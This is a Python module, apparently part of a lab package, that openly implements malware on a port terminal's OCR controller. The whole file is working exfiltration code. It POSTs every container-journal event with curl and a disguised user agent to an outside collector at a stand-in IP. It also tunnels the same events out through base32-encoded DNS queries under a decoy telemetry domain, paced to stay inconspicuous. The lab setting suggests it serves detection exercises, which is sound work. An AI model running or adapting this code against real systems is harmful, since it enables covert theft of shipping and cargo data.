"""Malware on the OCR controller: sends the container journal somewhere it must not go.

``http``: POSTs every journal event as JSON with curl to an outside collector, then follows
the journal for new events until the deadline. ``dns``: encodes each event into DNS names
under a domain the terminal resolver forwards outside — the container number in clear in
the first label, the rest (port of loading/discharge, weight) base32 in the next — one
query every 0.7 s.
"""

from __future__ import annotations

import argparse
import base64
import json
import logging
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

from cranewatch.lab.parts.common import dns_query, setup_part, stopping


def journal_events(journal: Path, until: float) -> Iterator[dict[str, object]]:
    """Every event in the journal, then new ones as the OCR appends them, until ``until``."""
    sent = 0
    while time.time() < until and not stopping.is_set():
        lines = journal.read_text().splitlines() if journal.exists() else []
        for line in lines[sent:]:
            sent += 1
            yield json.loads(line)
        stopping.wait(0.5)


def exfil_http(args: argparse.Namespace, log: logging.Logger) -> None:
    for event in journal_events(args.journal, args.until):
        done = subprocess.run(
            ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-A", "ocr-sync/1.3",
             "-H", "Content-Type: application/json", "--data-binary", json.dumps(event),
             f"http://{args.target}/api/v2/ocr/upload"],
            capture_output=True, text=True, timeout=10)
        log.info("posted %s -> %s", event.get("container"), done.stdout or done.returncode)
        time.sleep(1.0)


def dns_names(event: dict[str, object], sequence: int, domain: str) -> list[str]:
    """The query names that carry one event."""
    payload = json.dumps({k: event[k] for k in ("pol", "pod", "weight_kg", "bay")},
                         separators=(",", ":")).encode()
    encoded = base64.b32encode(payload).decode().rstrip("=").lower()
    chunks = [encoded[i:i + 50] for i in range(0, len(encoded), 50)]
    container = str(event["container"]).lower()
    return [f"{sequence:03d}-{part}-{container}.{chunk}.{domain}" for part, chunk in enumerate(chunks)]


def exfil_dns(args: argparse.Namespace, log: logging.Logger) -> None:
    for sequence, event in enumerate(journal_events(args.journal, args.until)):
        for name in dns_names(event, sequence, args.domain):
            if time.time() >= args.until:
                return
            answer = dns_query(name, args.dns)
            log.info("query %s -> %s", name, answer)
            time.sleep(0.7)


def main() -> None:
    parser = argparse.ArgumentParser(prog="cranewatch.lab.parts.exfil")
    parser.add_argument("channel", choices=("http", "dns"))
    parser.add_argument("--journal", type=Path, required=True)
    parser.add_argument("--until", type=float, required=True)
    parser.add_argument("--target", default="203.0.113.80")
    parser.add_argument("--dns", default="10.20.0.8")
    parser.add_argument("--domain", default="telemetry-cdn.example.net")
    args = parser.parse_args()
    log = setup_part(f"exfil-{args.channel}")
    (exfil_http if args.channel == "http" else exfil_dns)(args, log)


if __name__ == "__main__":
    main()
